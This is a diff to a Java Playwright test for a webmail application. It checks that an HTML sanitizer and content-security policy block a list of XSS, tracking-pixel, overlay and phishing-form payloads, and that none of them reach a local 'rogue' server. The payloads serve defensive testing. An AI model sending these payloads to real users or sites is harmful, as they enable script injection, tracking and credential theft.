@@ -8,6 +8,10 @@ import com.microsoft.playwright.Page;
 import com.microsoft.playwright.Request;
 import com.microsoft.playwright.Route;
 import com.microsoft.playwright.options.ColorScheme;
+import com.sun.net.httpserver.HttpServer;
+import java.io.IOException;
+import java.net.InetAddress;
+import java.net.InetSocketAddress;
 import java.net.URI;
 import java.util.List;
 import java.util.Map;
@@ -28,22 +32,22 @@ class MailPagesTest {
   /** Each tries to run, to send, to fetch, to cover or to leave. */
   private static final String ATTACKS =
       """
-      <html><head><base href="https://boef.example/"><meta http-equiv="refresh" content="0;url=https://boef.example/weg">
-      <link rel="stylesheet" href="https://boef.example/a.css"><style>@import url(https://boef.example/b.css);
-      body { background: url(https://boef.example/c.png) } </style>
-      <script>alert(1); top.location = 'https://boef.example/d'</script></head>
-      <body onload="alert(2)" background="https://boef.example/e.png">
+      <html><head><base href="http://BOEF/"><meta http-equiv="refresh" content="0;url=http://BOEF/weg">
+      <link rel="stylesheet" href="http://BOEF/a.css"><style>@import url(http://BOEF/b.css);
+      body { background: url(http://BOEF/c.png) } </style>
+      <script>alert(1); top.location = 'http://BOEF/d'</script></head>
+      <body onload="alert(2)" background="http://BOEF/e.png">
       <p>De lamp is <b>stuk</b>.</p><img src="cid:lamp" alt="De lamp">
-      <img src="https://boef.example/spion.gif" onerror="alert(3)"><img src=x onerror=alert(4)>
-      <img srcset="https://boef.example/f.png 2x" src="//boef.example/g.png">
-      <svg onload="alert(5)"><script>alert(6)</script><image href="https://boef.example/h.png"/></svg>
-      <iframe src="https://boef.example/i" srcdoc="<script>alert(7)</script>"></iframe>
-      <object data="https://boef.example/j"></object><embed src="https://boef.example/k">
-      <video src="https://boef.example/l" autoplay></video><audio src="https://boef.example/m"></audio>
-      <form action="https://boef.example/n" method="post"><input name="wachtwoord" autofocus onfocus="alert(8)">
-      <button formaction="https://boef.example/o">Inloggen</button></form>
-      <div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999;background:url(https://boef.example/p.png);color:red">Dek</div>
-      <div style="background-image:url('https://boef.example/q.png');width:expression(alert(9))">r</div>
+      <img src="http://BOEF/spion.gif" onerror="alert(3)"><img src=x onerror=alert(4)>
+      <img srcset="http://BOEF/f.png 2x" src="//BOEF/g.png">
+      <svg onload="alert(5)"><script>alert(6)</script><image href="http://BOEF/h.png"/></svg>
+      <iframe src="http://BOEF/i" srcdoc="<script>alert(7)</script>"></iframe>
+      <object data="http://BOEF/j"></object><embed src="http://BOEF/k">
+      <video src="http://BOEF/l" autoplay></video><audio src="http://BOEF/m"></audio>
+      <form action="http://BOEF/n" method="post"><input name="wachtwoord" autofocus onfocus="alert(8)">
+      <button formaction="http://BOEF/o">Inloggen</button></form>
+      <div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999;background:url(http://BOEF/p.png);color:red">Dek</div>
+      <div style="background-image:url('http://BOEF/q.png');width:expression(alert(9))">r</div>
       <a href="javascript:alert(10)">klik</a> <a href="/werk/uitloggen">eigen</a>
       <a href="data:text/html,<script>alert(11)</script>">data</a>
       <a href="https://elders.example/lamp">De foto</a> <math><mtext><img src=1 onerror=alert(12)></mtext></math>
@@ -62,7 +66,7 @@ class MailPagesTest {
     workplace.close();
   }
 
-  private static Case attacked() {
+  private static Case attacked(String attacks) {
     return workplace.mail(
         "boef@elders.example",
         """
@@ -84,7 +88,34 @@ class MailPagesTest {
         %s
         --x--
         """
-            .formatted(ATTACKS, PNG));
+            .formatted(attacks, PNG));
+  }
+
+  /** A host of somebody else, which hears whatever reaches it. */
+  private static final class Rogue implements AutoCloseable {
+    final Queue<String> heard = new ConcurrentLinkedQueue<>();
+    private final HttpServer server;
+
+    Rogue() throws IOException {
+      server = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
+      server.createContext(
+          "/",
+          asked -> {
+            heard.add(asked.getRequestURI().toString());
+            asked.sendResponseHeaders(204, -1);
+            asked.close();
+          });
+      server.start();
+    }
+
+    String host() {
+      return "127.0.0.1:" + server.getAddress().getPort();
+    }
+
+    @Override
+    public void close() {
+      server.stop(0);
+    }
   }
 
   private static void logIn(Page page, Case one) {
@@ -116,12 +147,14 @@ class MailPagesTest {
   }
 
   @Test
-  void nothingInAMailRunsFetchesSendsOrCovers() {
-    Case one = attacked();
+  void nothingInAMailRunsFetchesSendsOrCovers() throws IOException {
     Queue<String> dialogs = new ConcurrentLinkedQueue<>();
     Queue<String> requests = new ConcurrentLinkedQueue<>();
-    try (Browser browser = new Browser();
+    try (Rogue rogue = new Rogue();
+        Browser browser = new Browser();
         BrowserContext context = browser.somebody("nl-NL", true)) {
+      String attacks = ATTACKS.replace("BOEF", rogue.host());
+      Case one = attacked(attacks);
       Page page = context.newPage();
       logIn(page, one);
       watch(page, dialogs, requests);
@@ -129,7 +162,7 @@ class MailPagesTest {
       assertThat(frame.locator("b").textContent()).isEqualTo("stuk");
       assertThat(frame.content())
           .contains("De foto", "Niet opgehaalde afbeeldingen: 4")
-          .doesNotContain("alert", "boef.example", "position", "<form", "<input", "<script");
+          .doesNotContain("alert", rogue.host(), "position", "<form", "<input", "<script");
       assertThat(frame.locator("a[href]").count()).as("links that lead somewhere").isEqualTo(1);
       assertThat(frame.locator("a[href='https://elders.example/lamp']").getAttribute("rel"))
           .isEqualTo("noopener noreferrer nofollow");
@@ -137,6 +170,9 @@ class MailPagesTest {
           .as("its own picture is shown")
           .isEqualTo(1);
       Browser.isAccessible(page, ColorScheme.LIGHT);
+      assertThat(requests)
+          .isNotEmpty()
+          .allMatch(url -> url.startsWith(workplace.url("/")) || url.startsWith("data:"));
 
       // Were the sanitizer to let all of it through, the frame and its policy still hold.
       String policy =
@@ -153,18 +189,18 @@ class MailPagesTest {
                   new Route.FulfillOptions()
                       .setContentType("text/html")
                       .setHeaders(Map.of("Content-Security-Policy", policy))
-                      .setBody(ATTACKS.replace("http-equiv=\"refresh\"", "name=\"x\""))));
+                      .setBody(attacks.replace("http-equiv=\"refresh\"", "name=\"x\""))));
       Frame raw = opened(page, one);
       assertThat(raw.locator("form button").count()).isEqualTo(1);
       raw.locator("form button").dispatchEvent("click");
       assertThat(page.evaluate("window.origin")).isEqualTo(workplace.url(""));
       assertThat(page.url()).isEqualTo(workplace.url("/werk/vragen/" + one.id()));
       page.unroute(frame.url());
+      assertThat(rogue.heard).isEmpty();
+      context.request().get("http://" + rogue.host() + "/hoort");
+      assertThat(rogue.heard).as("it does hear").contains("/hoort");
     }
     assertThat(dialogs).isEmpty();
-    assertThat(requests)
-        .isNotEmpty()
-        .allMatch(url -> url.startsWith(workplace.url("/")) || url.startsWith("data:"));
   }
 
   @Test
